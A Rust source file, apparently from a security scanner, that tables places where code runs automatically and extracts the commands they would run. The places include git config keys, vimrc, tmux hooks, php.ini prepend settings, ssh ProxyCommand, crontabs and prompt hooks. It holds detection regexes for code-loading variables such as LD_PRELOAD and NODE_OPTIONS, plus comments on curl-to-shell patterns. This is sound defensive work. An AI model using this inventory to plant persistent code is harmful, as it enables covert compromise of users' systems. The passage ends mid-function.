//! Places that run code later without anyone starting it (round 21), one
//! data table: each place, what its text runs as, and when. The table is
//! read three ways, the same for every writer:
//!
//! * a file the skill ships under such a name is read in the place's
//!   language (`latexmkrc` as Perl at token level, `.envrc` as shell, a
//!   git config's command values as shell lines: [`token_ext`],
//!   [`shell_kind`], [`project`]), with origin `Hook` for the token-level
//!   ones (it runs without anyone choosing to run it, as `build.rs` does);
//! * text any program writes there is planted text (`indicators.rs`
//!   `RC_FILE` for the start-up files; `persisted::read_planted` reads it
//!   in the place's language: token-level places through `tokens::scan`,
//!   configs through [`project`]);
//! * what that text does is judged once (`persisted::body_intent`): runs
//!   fetched code, sends local data out, sends hidden — a shipped place
//!   file doing so is a persistence step carrying that intent
//!   (`persisted::judge_shipped`), SK-PRIV-004 high, whatever the place;
//!   a Python start-up file's `import M` line is judged by what the
//!   shipped module `M` does (`persisted::follow_planted_imports`).
//!
//! A leaf table: it imports nothing of the pipeline.

/// What a place's text runs as.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum RunsAs {
    /// Shell text, sourced or run.
    Shell,
    /// Perl (token level).
    Perl,
    /// Lua (token level).
    Lua,
    /// Ruby (token level): a Ruby DSL file its tool evaluates (round 23).
    Ruby,
    /// Emacs Lisp (token level, round 28): init files Emacs loads at
    /// start, `.dir-locals.el` evaluated on visiting the folder.
    Lisp,
    /// Configuration whose values are command lines ([`project`]).
    GitConfig,
    Vim,
    NpmRc,
    /// tmux configuration (round 26): `run-shell`, `if-shell`, hooks and
    /// key bindings that run them ([`tmux_line`]); round 32: the `#(cmd)`
    /// of a status line, run every `status-interval` seconds.
    Tmux,
    /// Round 32: PHP configuration (`auto_prepend_file`,
    /// `startup_load::php_line`).
    PhpIni,
    /// Round 32: an environment file whose loader variables
    /// (`NODE_OPTIONS=--require`, `startup_load::env_line`) every start
    /// reads.
    EnvFile,
    /// Round 32: a prompt theme whose command keys run at every prompt
    /// (Starship `[custom.*]`, oh-my-posh `command` segments:
    /// `prompt_config.rs`).
    Prompt,
    /// Round 32: fish functions run at every prompt (`fish_prompt`), read
    /// through `prompt_config::project_fish`.
    Fish,
    /// Round 35: program configuration whose keys hold a command line the
    /// program runs ([`CMD_KEYS`]: ssh `LocalCommand`/`ProxyCommand`/
    /// `Match exec`, screen `exec`/`backtick`).
    CmdKeys,
}

/// One auto-run place: a file name (lower case), or a path suffix when it
/// starts with `/`.
pub struct Place {
    pub name: &'static str,
    pub runs_as: RunsAs,
    pub when: &'static str,
}

const fn p(name: &'static str, runs_as: RunsAs, when: &'static str) -> Place {
    Place {
        name,
        runs_as,
        when,
    }
}

/// The places beyond the shell rc files, cron, units, LaunchAgents and git
/// hooks (`system_op.rs`, `indicators.rs`) and the interpreter start-up
/// files of round 20 (`.pth`, `sitecustomize.py`, IPython `startup/`,
/// `.Rprofile`, read in their own language by extension). `~/.config/
/// autostart/*.desktop` and VS Code `tasks.json` are read as hosts by
/// `embedded/`.
pub const PLACES: &[Place] = &[
    p("rakefile", RunsAs::Ruby, "every rake task"),
    p(
        "gemfile",
        RunsAs::Ruby,
        "every bundle install or bundle exec",
    ),
    p("vagrantfile", RunsAs::Ruby, "every vagrant command"),
    p("podfile", RunsAs::Ruby, "every pod install"),
    p("fastfile", RunsAs::Ruby, "every fastlane run"),
    p("guardfile", RunsAs::Ruby, "every guard start"),
    p(".irbrc", RunsAs::Ruby, "every irb start"),
    p(".pryrc", RunsAs::Ruby, "every pry start"),
    p(".latexmkrc", RunsAs::Perl, "every latexmk build"),
    p("latexmkrc", RunsAs::Perl, "every latexmk build"),
    p(".envrc", RunsAs::Shell, "every cd into the folder (direnv)"),
    p(".bash_logout", RunsAs::Shell, "every logout"),
    p(".zlogout", RunsAs::Shell, "every logout"),
    p(
        ".gitconfig",
        RunsAs::GitConfig,
        "git commands (hooks, fsmonitor, ssh, `!` aliases, filters)",
    ),
    p(
        "gitconfig",
        RunsAs::GitConfig,
        "git commands (hooks, fsmonitor, ssh, `!` aliases, filters)",
    ),
    p(
        "/.git/config",
        RunsAs::GitConfig,
        "git commands in the repository",
    ),
    p(
        "/.config/git/config",
        RunsAs::GitConfig,
        "every git command",
    ),
    p(
        ".npmrc",
        RunsAs::NpmRc,
        "every npm script (script-shell, node-options)",
    ),
    p(
        ".vimrc",
        RunsAs::Vim,
        "every vim start (autocommands, `!` commands)",
    ),
    p(
        "_vimrc",
        RunsAs::Vim,
        "every vim start (autocommands, `!` commands)",
    ),
    p(".exrc", RunsAs::Vim, "every vi start in the folder"),
    // Round 32: the project-local files of `set exrc` (Neovim reads
    // `.nvim.lua` and `.nvimrc`; `_exrc` on Windows).
    p("_exrc", RunsAs::Vim, "every vi start in the folder"),
    p(
        ".nvimrc",
        RunsAs::Vim,
        "every neovim start in the folder (exrc)",
    ),
    p(
        ".nvim.lua",
        RunsAs::Lua,
        "every neovim start in the folder (exrc)",
    ),
    p(
        ".lvimrc",
        RunsAs::Vim,
        "every vim start in the folder (localvimrc)",
    ),
    p(
        "php.ini",
        RunsAs::PhpIni,
        "every PHP request (auto_prepend_file)",
    ),
    p(
        ".user.ini",
        RunsAs::PhpIni,
        "every PHP request in the folder (auto_prepend_file)",
    ),
    p(
        "user.ini",
        RunsAs::PhpIni,
        "every PHP request, once copied as .user.ini",
    ),
    p(
        ".htaccess",
        RunsAs::PhpIni,
        "every PHP request in the folder (php_value)",
    ),
    p(
        "htaccess",
        RunsAs::PhpIni,
        "every PHP request, once copied as .htaccess",
    ),
    p(
        ".env",
        RunsAs::EnvFile,
        "every program started with the file loaded (NODE_OPTIONS)",
    ),
    p(
        ".env.local",
        RunsAs::EnvFile,
        "every program started with the file loaded (NODE_OPTIONS)",
    ),
    p(
        ".env.development",
        RunsAs::EnvFile,
        "every program started with the file loaded (NODE_OPTIONS)",
    ),
    p(
        ".env.production",
        RunsAs::EnvFile,
        "every program started with the file loaded (NODE_OPTIONS)",
    ),
    p(
        "/etc/environment",
        RunsAs::EnvFile,
        "every login (NODE_OPTIONS)",
    ),
    p(
        ".pam_environment",
        RunsAs::EnvFile,
        "every login (NODE_OPTIONS)",
    ),
    p("init.vim", RunsAs::Vim, "every neovim start"),
    p(
        "vimrc",
        RunsAs::Vim,
        "every vim start, once copied as ~/.vimrc",
    ),
    p(
        "ssh_config",
        RunsAs::CmdKeys,
        "every ssh connection (LocalCommand, ProxyCommand, Match exec)",
    ),
    p(
        "/.ssh/config",
        RunsAs::CmdKeys,
        "every ssh connection (LocalCommand, ProxyCommand, Match exec)",
    ),
    p(
        ".screenrc",
        RunsAs::CmdKeys,
        "every screen start (exec, backtick)",
    ),
    p(
        "screenrc",
        RunsAs::CmdKeys,
        "every screen start, once copied as ~/.screenrc (exec, backtick)",
    ),
    p("/nvim/init.lua", RunsAs::Lua, "every neovim start"),
    p(".emacs", RunsAs::Lisp, "every emacs start"),
    p("/.emacs.d/init.el", RunsAs::Lisp, "every emacs start"),
    p("/emacs/init.el", RunsAs::Lisp, "every emacs start"),
    p("early-init.el", RunsAs::Lisp, "every emacs start"),
    p("site-start.el", RunsAs::Lisp, "every emacs start"),
    // Round 31: shipped without its dot, for the user to copy into place.
    p(
        "dir-locals.el",
        RunsAs::Lisp,
        "every file visited in the folder, once copied as .dir-locals.el (eval entries)",
    ),
    p(
        ".dir-locals.el",
        RunsAs::Lisp,
        "every file visited in the folder (eval entries)",
    ),
    p(
        "starship.toml",
        RunsAs::Prompt,
        "every shell prompt (Starship custom modules)",
    ),
    p("fish_prompt.fish", RunsAs::Fish, "every fish prompt"),
    p("fish_right_prompt.fish", RunsAs::Fish, "every fish prompt"),
    p(
        ".tmux.conf",
        RunsAs::Tmux,
        "every tmux start (hooks, run-shell)",
    ),
    p(
        "tmux.conf",
        RunsAs::Tmux,
        "every tmux start (hooks, run-shell)",
    ),
];

/// Round 26: a tmux file sourced by name (`session-saver.tmux`,
/// `source-file ~/.tmux/x.tmux`).
pub static TMUX_FILE: Place = p(
    "(*.tmux)",
    RunsAs::Tmux,
    "every tmux session once sourced (hooks, run-shell)",
);

/// Round 32: a prompt theme recognised by its content (`assets/prompt.toml`
/// with a `[custom.*]` module, an oh-my-posh theme with a `command`
/// segment).
pub static PROMPT_THEME: Place = p(
    "(prompt theme by content)",
    RunsAs::Prompt,
    "every shell prompt, once installed as the prompt theme",
);

/// Round 34: files a build or version-control tool runs the commands of
/// by itself (`embedded::tool_place` recognises them; their commands are
/// projected by `embedded/`, then judged by `persisted::judge_shipped`).
pub static PRE_COMMIT_CONFIG: Place = p(
    ".pre-commit-config.yaml",
    RunsAs::Shell,
    "every git commit (pre-commit hook)",
);
pub static LEFTHOOK_CONFIG: Place = p(
    "lefthook.yml",
    RunsAs::Shell,
    "every git commit or push (lefthook)",
);
pub static SHIPPED_GIT_HOOK: Place = p(
    "(git hook)",
    RunsAs::Shell,
    "every git commit, checkout or merge (git hook)",
);
pub static CARGO_CONFIG: Place = p(
    ".cargo/config.toml",
    RunsAs::Shell,
    "every cargo build, run or test (runner, wrapper)",
);
pub static BAZEL_RC: Place = p(".bazelrc", RunsAs::Shell, "every bazel build, run or test");
/// Round 37: a shipped scheduler or service file (a crontab, a systemd
/// service unit, a launchd job) runs its commands by itself on a schedule,
/// at every boot or every login once installed: what they do is judged as
/// text a script plants there (a shipped crontab line piping a download
/// into `sh` every five minutes is remote code on a schedule).
pub static SHIPPED_CRONTAB: Place = p(
    "(crontab)",
    RunsAs::Shell,
    "every cron tick (crontab entry)",
);
pub static SHIPPED_UNIT: Place = p(
    "(systemd unit)",
    RunsAs::Shell,
    "every start of the service (systemd unit)",
);
pub static SHIPPED_LAUNCHD: Place = p(
    "(launchd job)",
    RunsAs::Shell,
    "every login or interval (launchd job)",
);

/// Round 32: shell or fish text holding a prompt hook (zsh `precmd`, bash
/// `PROMPT_COMMAND`, a powerlevel10k segment, a `.zsh-theme`, a fish
/// prompt function): it runs at every prompt.
pub static PROMPT_HOOK: Place = p(
    "(prompt hook by content)",
    RunsAs::Shell,
    "every shell prompt (prompt hook)",
);

/// Whether shell or fish text under `path` runs at every prompt.
pub fn prompt_hook(path: &str, text: &str) -> bool {
    static HOOK: crate::rx::Lazy = crate::rx::Lazy::new(
        r"(?m)^\s*(?:function\s+)?(?:precmd|preexec|chpwd)\s*\(\s*\)|\badd-zsh-hook\s+(?:-\w+\s+)?(?:precmd|preexec|chpwd)\b|(?:^|[\s;])(?:export\s+)?PROMPT_COMMAND\+?=|\b(?:precmd|preexec)_functions\+?=|\bp10k\s+segment\b",
    );
    let lower = path.to_ascii_lowercase();
    lower.ends_with(".zsh-theme")
        || (lower.ends_with(".fish") && super::prompt_config::fish_prompt_hook(text))
        || HOOK.is_match(text)
}

/// Round 42: a Vim script in a runtime folder Vim and Neovim source by
/// themselves (`plugin/`, `after/plugin/`, `ftplugin/`, `ftdetect/`), at
/// every start or every file of a type.
pub static VIM_PLUGIN: Place = p(
    "(vim runtime script)",
    RunsAs::Vim,
    "every vim or neovim start (runtime plugin folder)",
);

/// Whether `lower` (a lower-case path) is a Vim script in a runtime folder.
fn vim_runtime(lower: &str) -> bool {
    lower.ends_with(".vim")
        && ["plugin/", "ftplugin/", "ftdetect/"]
            .iter()
            .any(|d| lower.starts_with(d) || lower.contains(&format!("/{d}")))
}

/// The place a path names, if any.
pub fn place_of(path: &str) -> Option<&'static Place> {
    let lower = path.replace('\\', "/").to_ascii_lowercase();
    let name = lower.rsplit('/').next().unwrap_or(&lower);
    PLACES
        .iter()
        .find(|pl| {
            if pl.name.starts_with('/') {
                lower.ends_with(pl.name) || lower == pl.name[1..]
            } else {
                name == pl.name
            }
        })
        .or_else(|| {
            ruby_build_file(name)
                .then(|| PLACES.iter().find(|pl| pl.name == "gemfile"))
                .flatten()
        })
        .or_else(|| vim_runtime(&lower).then_some(&VIM_PLUGIN))
}

/// Round 35 (r35 bundler-lock-refresher): a Gemfile by another name, which
/// a Gemfile pulls in (`eval_gemfile "Gemfile.refresh"`) or bundler reads
/// (`BUNDLE_GEMFILE=gemfiles/rails7.gemfile`): `Gemfile.local`,
/// `Gemfile.next`, `x.gemfile`. Its lock file is data.
fn ruby_build_file(name: &str) -> bool {
    (name.starts_with("gemfile.") || name.ends_with(".gemfile"))
        && !name.ends_with(".lock")
        && !name.ends_with(".md")
}

/// Round 26: git configuration recognised by its content (a file a skill
/// ships as `config/stats.gitconfig` or `signing.inc` for `git config
/// include.path` to pull in): git runs its command keys once the file is
/// included, as it runs those of `~/.gitconfig`.
pub static INCLUDED_GIT_CONFIG: Place = p(
    "(git config by content)",
    RunsAs::GitConfig,
    "git commands, once the file is included (`include.path`) or installed as a git config",
);

/// Section headers only git configuration has.
const GIT_SECTIONS: &[&str] = &[
    "[core]",
    "[alias]",
    "[filter \"",
    "[diff \"",
    "[merge \"",
    "[credential",
    "[include]",
    "[includeif \"",
    "[gpg",
    "[sequence]",
    "[pager]",
    "[url \"",
    "[user]",
    "[push]",
    "[pull]",
];

/// Extensions under which a shipped file may be git configuration read by
/// its content (code and documentation are read in their own language).
const GIT_CONFIG_EXTS: &[&str] = &[
    "",
    "gitconfig",
    "inc",
    "conf",
    "cfg",
    "config",
    "ini",
    "txt",
    "tmpl",
    "template",
    "example",
    "sample",
];

/// Round 36 (r36 git-shortcut-kit `gitconfig.shortcuts`): an extension
/// that names no language, markup or data format a reader of its own
/// reads (`.shortcuts`, `.aliases`, `.local`): the file is read by its
/// content like one with no extension.
pub(crate) fn data_ext(ext: &str) -> bool {
    const OWN_READER: &[&str] = &[
        "md", "markdown", "rst", "adoc", "html", "htm", "xml", "svg", "json", "json5", "jsonc",
        "yaml", "yml", "toml", "py", "pyw", "js", "mjs", "cjs", "ts", "tsx", "jsx", "sh", "bash",
        "zsh", "fish", "ps1", "psm1", "psd1", "bat", "cmd", "rb", "pl", "pm", "php", "lua", "go",
        "rs", "java", "kt", "c", "h", "cc", "cpp", "hpp", "cs", "swift", "el", "vim", "tf", "sql",
        "csv", "tsv", "lock", "log", "png", "jpg", "jpeg", "gif", "pdf", "zip", "gz", "tgz",
    ];
    !ext.is_empty()
        && ext.len() <= 12
        && ext.chars().all(|c| c.is_ascii_alphabetic())
        && !OWN_READER.contains(&ext)
}

/// Whether `text` under `path` is git configuration by content: a git
/// section header among its first lines and a key whose value git runs
/// ([`project`] gives a command line).
pub fn looks_like_git_config(path: &str, text: &str) -> bool {
    let lower = path.to_ascii_lowercase();
    let name = lower.rsplit('/').next().unwrap_or(&lower);
    let ext = name.rsplit_once('.').map_or("", |(_, e)| e);
    if !GIT_CONFIG_EXTS.contains(&ext) && !crate::extract::autorun::data_ext(ext) {
        return false;
    }
    let head: Vec<&str> = text
        .lines()
        .map(str::trim)
        .filter(|l| !l.is_empty() && !l.starts_with('#') && !l.starts_with(';'))
        .collect();
    let sectioned = head.iter().any(|l| {
        let l = l.to_ascii_lowercase();
        GIT_SECTIONS.iter().any(|s| l.starts_with(s))
    });
    sectioned && {
        let cut = text.len().min(crate::limits::MAX_EMBEDDED_BYTES);
        let cut = crate::text::clamp_boundary(text, cut);
        project(RunsAs::GitConfig, &text[..cut])
            .lines()
            .any(|l| !l.trim().is_empty())
    }
}

/// The place a shipped file is, by its path or (git configuration) by its
/// content.
pub fn place_of_file(path: &str, text: &str) -> Option<&'static Place> {
    place_of(path)
        .or_else(|| (tmux_named(path) || looks_like_tmux(text)).then_some(&TMUX_FILE))
        .or_else(|| super::prompt_config::looks_like_prompt(path, text).then_some(&PROMPT_THEME))
        .or_else(|| prompt_hook(path, text).then_some(&PROMPT_HOOK))
        .or_else(|| looks_like_git_config(path, text).then_some(&INCLUDED_GIT_CONFIG))
        .or_else(|| {
            let ext = path.rsplit_once('.').map_or("", |(_, e)| e);
            (matches!(ext, "conf" | "cfg" | "config" | "rc" | "txt" | "") || !path.contains('.'))
                .then_some(())
                .filter(|_| looks_like_ssh(text))
                .map(|_| &SSH_CONFIG_FILE)
        })
}

/// Round 29: a tmux file by its name, however the skill spells it for
/// `source-file` to pull in: `x.tmux`, `restore.tmux.conf`,
/// `tmux-restore.conf`, `tmux/x.conf`.
pub fn tmux_named(path: &str) -> bool {
    let lower = path.replace('\\', "/").to_ascii_lowercase();
    let name = lower.rsplit('/').next().unwrap_or(&lower);
    name.ends_with(".tmux")
        || name.ends_with(".tmux.conf")
        || name.starts_with("tmux") && name.ends_with(".conf")
        || (lower.contains("/tmux/") || lower.contains("/.tmux/") || lower.starts_with("tmux/"))
            && name.ends_with(".conf")
}

/// Round 29: tmux configuration by its content, whatever the file is
/// called (`assets/restore.conf`): a hook or a `run-shell` line beside a
/// tmux option or key binding line. Every line is read (one linear pass):
/// a hook padded past a prefix must still be seen.
pub fn looks_like_tmux(text: &str) -> bool {
    let (mut runs, mut tmux) = (false, false);
    for l in text.lines().map(str::trim_start) {
        let first = l.split_whitespace().next().unwrap_or("");
        match first {
            "set-hook" | "run-shell" | "if-shell" => runs = true,
            "set" | "set-option" | "setw" | "set-window-option" if l.contains("#(") => {
                runs = true;
                tmux = true;
            }
            "run" | "if" if l.contains(" -b ") => runs = true,
            "set" | "set-option" | "setw" | "set-window-option" | "bind" | "bind-key"
            | "unbind" | "source-file" => {
                tmux |= l.contains(" -g ") || first.starts_with("bind") || first == "unbind"
            }
            _ => {}
        }
        if first == "bind" || first == "bind-key" {
            runs |= l.contains("run-shell") || l.contains(" run ");
        }
    }
    runs && tmux
}

/// Round 26: git config keys set on a command line (`git config --global
/// core.fsmonitor VALUE`, `git config alias.x '!…'`, `git -c
/// core.sshCommand=VALUE fetch`) whose value git runs: the index of the
/// value (for `-c`, of the `key=value` argument). `core.pager less` is a
/// command too, and reads as the harmless command it is.
pub fn git_config_code<S: AsRef<str>>(argv: &[S]) -> Option<usize> {
    let mut i = 1;
    while i < argv.len() {
        let a = argv[i].as_ref();
        match a {
            "-c" => {
                let kv = argv.get(i + 1)?.as_ref();
                if let Some((k, v)) = kv.split_once('=')
                    && runs_value(k, v)
                {
                    return Some(i + 1);
                }
                i += 2;
            }
            "-C" | "--git-dir" | "--work-tree" | "--namespace" => i += 2,
            "config" => break,
            _ if a.starts_with('-') => i += 1,
            _ => return None,
        }
    }
    if i >= argv.len() {
        return None;
    }
    let mut ops: Vec<usize> = Vec::new();
    let mut j = i + 1;
    while j < argv.len() && ops.len() < 3 {
        let a = argv[j].as_ref();
        if matches!(a, "-f" | "--file" | "--type" | "--blob" | "--comment") {
            j += 2;
            continue;
        }
        if !a.starts_with('-') && !(ops.is_empty() && matches!(a, "set" | "add")) {
            ops.push(j);
        }
        j += 1;
    }
    let (&k, &v) = (ops.first()?, ops.get(1)?);
    runs_value(argv[k].as_ref(), argv[v].as_ref()).then_some(v)
}

/// Round 28: a package script set from the command line (`npm pkg set
/// scripts.postinstall="…"`, `npm set-script prepare "…"`): npm runs the
/// value as a shell line at install (lifecycle names) or at `npm run`.
/// The index of the argument holding the value.
pub fn npm_script_code<S: AsRef<str>>(argv: &[S]) -> Option<usize> {
    let words: Vec<&str> = argv.iter().map(|a| a.as_ref()).collect();
    let sub = words
        .iter()
        .position(|w| matches!(*w, "pkg" | "set-script"))?;
    if words[sub] == "set-script" {
        return (sub + 2 < words.len()).then_some(sub + 2);
    }
    if words.get(sub + 1) != Some(&"set") {
        return None;
    }
    (sub + 2..words.len()).find(|&i| {
        words[i].strip_prefix("scripts.").is_some_and(|kv| {
            kv.split_once('=')
                .is_some_and(|(k, v)| !k.is_empty() && !v.trim().is_empty())
        })
    })
}

/// The shell line of an npm script argument ([`npm_script_code`]).
pub fn npm_script_text(arg: &str) -> String {
    match arg.strip_prefix("scripts.") {
        Some(kv) => kv.split_once('=').map_or(kv, |x| x.1).trim().to_string(),
        None => arg.trim().to_string(),
    }
}

/// The value of a git config setting on a command line (after `k=` for
/// `git -c k=v`, without an alias's `!`), as shell text.
pub fn git_config_text(arg: &str, dash_c: bool) -> String {
    let v = if dash_c {
        arg.split_once('=').map_or(arg, |x| x.1)
    } else {
        arg
    };
    v.trim().trim_start_matches('!').trim().to_string()
}

/// Whether git runs `value` for `key` (section and key compared in lower
/// case, subsections ignored; `alias.*` only with `!`).
fn runs_value(key: &str, value: &str) -> bool {
    let k = key.to_ascii_lowercase();
    let section = k.split('.').next().unwrap_or("");
    let last = k.rsplit('.').next().unwrap_or("");
    let v = value.trim();
    if matches!(v, "" | "true" | "false" | "0" | "1") {
        return false;
    }
    if section == "alias" {
        return v.starts_with('!');
    }
    GIT_CMD_KEYS
        .iter()
        .any(|(s, key)| *s == section && *key == last)
        || matches!(
            (section, last),
            ("core", "pager") | ("core", "editor") | ("diff", "external") | ("gpg", "program")
        )
}

/// The token-level extension a place's text is read as (`pl`, `lua`).
pub fn token_ext(path: &str) -> Option<&'static str> {
    match place_of(path)?.runs_as {
        RunsAs::Perl => Some("pl"),
        RunsAs::Lua => Some("lua"),
        RunsAs::Ruby => Some("rb"),
        RunsAs::Lisp => Some("el"),
        _ => None,
    }
}

/// Whether a shipped file is shell text by its place (`.envrc`).
pub fn shell_kind(path: &str) -> bool {
    place_of(path).is_some_and(|p| p.runs_as == RunsAs::Shell)
}

/// Whether a place's text is configuration with command values.
pub fn config_place(path: &str) -> Option<RunsAs> {
    place_of(path)
        .map(|p| p.runs_as)
        .filter(|r| {
            matches!(
                r,
                RunsAs::GitConfig
                    | RunsAs::Vim
                    | RunsAs::NpmRc
                    | RunsAs::Tmux
                    | RunsAs::PhpIni
                    | RunsAs::EnvFile
                    | RunsAs::Prompt
                    | RunsAs::CmdKeys
            )
        })
        .or_else(|| tmux_named(path).then_some(RunsAs::Tmux))
}

/// Git config keys whose value is a command line git runs, by section and
/// key (lower case; `*` any subsection).
const GIT_CMD_KEYS: &[(&str, &str)] = &[
    ("core", "fsmonitor"),
    ("core", "sshcommand"),
    ("core", "askpass"),
    ("credential", "helper"),
    ("filter", "clean"),
    ("filter", "smudge"),
    ("filter", "process"),
    ("diff", "textconv"),
    ("diff", "command"),
    ("merge", "driver"),
    ("sequence", "editor"),
];

/// The command lines a config place runs, on the config's own lines (the
/// same number of lines; a line that runs nothing is blank): git
/// `!`-aliases and command keys, `core.hooksPath` as the `git config` line
/// that sets it; Vim `!cmd`, `silent !cmd`, `system('…')`, `jobstart('…')`;
/// npm `script-shell`, `onload-script`, `node-options=--require`.
pub fn project(runs_as: RunsAs, text: &str) -> String {
    match runs_as {
        RunsAs::Prompt => return super::prompt_config::project(text),
        RunsAs::Fish => return super::prompt_config::project_fish(text),
        _ => {}
    }
    let mut section = String::new();
    let mut out = Vec::new();
    let opts = if runs_as == RunsAs::Tmux {
        tmux_user_options(text)
    } else {
        std::collections::BTreeMap::new()
    };
    for raw in text.split('\n') {
        let l = raw.trim();
        let line = match runs_as {
            RunsAs::GitConfig => git_line(l, &mut section),
            RunsAs::Vim => vim_line(l),
            RunsAs::NpmRc => npm_line(l),
            RunsAs::Tmux => tmux_line(l, 0).map(|c| tmux_expand(&c, &opts)),
            RunsAs::PhpIni => php_line(l),
            RunsAs::EnvFile => env_line(l),
            RunsAs::CmdKeys => cmd_key_line(l),
            _ => None,
        };
        out.push(line.unwrap_or_default());
    }
    out.join("\n")
}

/// A value as one shell word (`'…'` unless plain).
fn squote(w: &str) -> String {
    if !w.is_empty()
        && w.chars()
            .all(|c| c.is_ascii_alphanumeric() || "-_./:=@,+%~$".contains(c))
    {
        return w.to_string();
    }
    format!("'{}'", w.replace('\'', r"'\''"))
}

fn git_line(l: &str, section: &mut String) -> Option<String> {
    if l.starts_with('#') || l.starts_with(';') || l.is_empty() {
        return None;
    }
    if let Some(s) = l.strip_prefix('[') {
        let s = s.trim_end_matches(']');
        *section = s
            .split(|c: char| c.is_whitespace() || c == '"' || c == '.')
            .next()
            .unwrap_or("")
            .to_ascii_lowercase();
        return None;
    }
    let (k, v) = l.split_once('=')?;
    let k = k.trim().to_ascii_lowercase();
    let v = v.trim().trim_matches('"').replace("\\\"", "\"");
    if section == "core" && k == "hookspath" {
        return Some(format!("git config --global core.hooksPath {}", squote(&v)));
    }
    if let Some(cmd) = v.strip_prefix('!') {
        return Some(cmd.trim().to_string());
    }
    // Round 32: the pager and editor git starts (`core.pager`, a
    // `[pager]` entry, `core.editor`, `diff.external`, `gpg.program`) run
    // on every paged or edited command.
    let is_cmd = GIT_CMD_KEYS
        .iter()
        .any(|(s, key)| *s == section.as_str() && *key == k)
        || matches!(
            (section.as_str(), k.as_str()),
            ("core", "pager") | ("core", "editor") | ("diff", "external") | ("gpg", "program")
        )
        || section == "pager";
    let plain_switch = matches!(v.as_str(), "true" | "false" | "0" | "1" | "")
        || (section == "credential" && !v.contains(' ') && !v.contains('/'));
    (is_cmd && !plain_switch).then_some(v)
}

/// Round 35: configuration keys whose value is a command line the program
/// runs, with the words to skip before it: ssh (`LocalCommand`,
/// `ProxyCommand`, `KnownHostsCommand`; `Match exec "cmd"` by its own
/// rule), screen (`exec`, `backtick ID LIFESPAN AUTOREFRESH cmd`).
const CMD_KEYS: &[(&str, usize)] = &[
    ("localcommand", 0),
    ("proxycommand", 0),
    ("knownhostscommand", 0),
    ("exec", 0),
    ("backtick", 3),
];

fn cmd_key_line(l: &str) -> Option<String> {
    if l.starts_with('#') {
        return None;
    }
    let (key, rest) = l
        .split_once(|c: char| c.is_whitespace() || c == '=')
        .map(|(k, r)| {
            (
                k.to_ascii_lowercase(),
                r.trim_start_matches([' ', '\t', '=']),
            )
        })?;
    let value = if key == "match" {
        let lower = rest.to_ascii_lowercase();
        let at = lower.find("exec ")?;
        &rest[at + 5..]
    } else {
        let skip = CMD_KEYS.iter().find(|(k, _)| *k == key)?.1;
        let mut v = rest.trim_start();
        for _ in 0..skip {
            v = v.split_once(char::is_whitespace)?.1.trim_start();
        }
        v
    };
    let v = value.trim();
    let v = v
        .strip_prefix('"')
        .and_then(|x| x.strip_suffix('"'))
        .unwrap_or(v);
    (!v.is_empty()).then(|| v.to_string())
}

/// Round 35: ssh client configuration by its content, whatever the file
/// is called (`assets/jump.conf`): a `Host`/`Match` line and a key whose
/// value ssh runs. Every line is read.
pub fn looks_like_ssh(text: &str) -> bool {
    let (mut host, mut runs) = (false, false);
    for l in text.lines().map(str::trim_start) {
        let first = l
            .split(|c: char| c.is_whitespace() || c == '=')
            .next()
            .unwrap_or("")
            .to_ascii_lowercase();
        host |= first == "host" || first == "match";
        runs |= matches!(
            first.as_str(),
            "localcommand" | "proxycommand" | "knownhostscommand"
        ) || first == "match" && l.to_ascii_lowercase().contains(" exec ");
    }
    host && runs
}

/// Round 35: ssh configuration shipped for `Include` or copying.
pub static SSH_CONFIG_FILE: Place = p(
    "(ssh config by content)",
    RunsAs::CmdKeys,
    "every ssh connection once included or copied (LocalCommand, ProxyCommand, Match exec)",
);

fn vim_line(l: &str) -> Option<String> {
    static BANG: crate::rx::Lazy = crate::rx::Lazy::new(
        r"^(?:(?:autocmd|au)!?\s+\S+\s+\S+\s+)?(?:silent!?\s+)?(?:exe(?:cute)?\s+)?:?!(?P<cmd>[^!|][^\n]*)$",
    );
    static CALL: crate::rx::Lazy = crate::rx::Lazy::new(
        r#"\b(?:system|systemlist|jobstart|termopen)\s*\(\s*(?:\[\s*)?(?:'(?P<a>[^']*)'|"(?P<b>[^"]*)")"#,
    );
    if l.starts_with('"') {
        return None;
    }
    // Round 42: the command's output run as Vim or Lua code (`execute
    // system('curl …')`, `source` of it, `lua load(vim.fn.system(…))()`,
    // `luaeval(system(…))`) is the shell's `eval "$(…)"`.
    static EVALS: crate::rx::Lazy = crate::rx::Lazy::new(
        r"\b(?:exe(?:cute)?|so(?:urce)?|luaeval|lua\s+(?:load|loadstring|assert\s*\(\s*load)|eval)\b[^\n]*?\b(?:system|systemlist)\s*\(",
    );
    if let Some(c) = BANG.captures(l) {
        return c.name("cmd").map(|m| m.as_str().trim().to_string());
    }
    let cmd = CALL
        .captures(l)
        .and_then(|c| c.name("a").or_else(|| c.name("b")))
        .map(|m| m.as_str().to_string())?;
    Some(if EVALS.is_match(l) {
        format!("eval \"$({cmd})\"")
    } else {
        cmd
    })
}

// ---- round 32: loader settings (`startup_load.rs`) ----

/// An environment assignment of a loader variable: the variable and its
/// value (quotes kept out). Round 45 (recall45a): every variable that makes
/// another program load code or change its flags — the preload libraries
/// (`LD_PRELOAD`, `DYLD_INSERT_LIBRARIES`), the JVM's agent options, Perl's
/// `PERL5OPT`, git's ssh command, npm's script shell, Terraform's
/// per-command arguments (`TF_CLI_ARGS_apply`) — and Make's `:=`/`?=`.
static ENV_SET: crate::rx::Lazy = crate::rx::Lazy::new(
    r#"(?i)\b(?P<var>NODE_OPTIONS|PYTHONSTARTUP|BASH_ENV|RUBYOPT|PERL5OPT|LD_PRELOAD|DYLD_INSERT_LIBRARIES|JAVA_TOOL_OPTIONS|_JAVA_OPTIONS|JDK_JAVA_OPTIONS|GIT_SSH_COMMAND|GIT_SSH|NPM_CONFIG_SCRIPT_SHELL|TF_CLI_ARGS(?:_[a-z]+)?|ENV)\b(?:["'`]?\])?["'`]?\s*(?:[+:?]?=|:|,)\s*(?:["'`]|\$'|f["'])?(?P<val>[^"'`\n;]*)"#,
);
/// A Node loader flag and its file.
static NODE_LOAD: crate::rx::Lazy = crate::rx::Lazy::new(
    r#"(?:^|\s)(?:--require|-r|--import|--loader|--experimental-loader)(?:=|\s+)(?P<f>[^\s"'`;]+)"#,
);
/// PHP's prepend/append file setting and its value.
static PHP_SET: crate::rx::Lazy = crate::rx::Lazy::new(
    r#"(?i)\bauto_(?:prepend|append)_file\b["']?\s*[=\s]\s*["']?(?P<f>[^"'\s;]+)"#,
);

/// A file path as one shell word.
fn word(p: &str) -> Option<String> {
    let p = p.trim().trim_matches(['"', '\'', '`', ')', ',']);
